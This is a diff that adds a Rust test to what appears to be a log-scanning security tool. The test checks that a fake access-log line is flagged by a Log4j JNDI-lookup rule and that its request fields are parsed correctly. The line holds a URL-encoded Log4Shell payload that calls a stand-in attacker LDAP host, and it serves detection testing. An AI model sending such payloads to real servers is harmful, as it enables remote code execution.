@@ -555,6 +555,33 @@ fn logs_command_text_json_and_user_rules() {
 }
 
 #[test]
+fn web_hits_carry_the_parsed_request_and_validate_against_the_schema() {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[(
+            "access.log",
+            b"192.0.2.10 - - [27/Nov/2026:14:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n\
+203.0.113.66 - - [27/Nov/2026:14:00:01 +0000] \"GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D HTTP/1.1\" 404 153 \"http://ref.example/\" \"curl/8.4.0\"\n",
+        )],
+    );
+    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
+    crate::util::validate_against_schema(&v);
+    let h = &v["bundles"][0]["log_hits"][0];
+    assert_eq!(h["rule"], "log4j.jndi-lookup");
+    let r = &h["http"];
+    assert_eq!(r["client"], "203.0.113.66");
+    assert_eq!(r["method"], "GET");
+    assert_eq!(r["path"], "/");
+    assert_eq!(r["query"], "x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D");
+    assert_eq!(r["status"], 404);
+    assert_eq!(r["bytes"], 153);
+    assert_eq!(r["referer"], "http://ref.example/");
+    assert_eq!(r["user_agent"], "curl/8.4.0");
+    assert!(r.get("host").is_none(), "absent parts are left out: {r}");
+}
+
+#[test]
 fn rules_list_and_check() {
     let out = run(&["rules", "list"]);
     let text = String::from_utf8_lossy(&out.stdout);
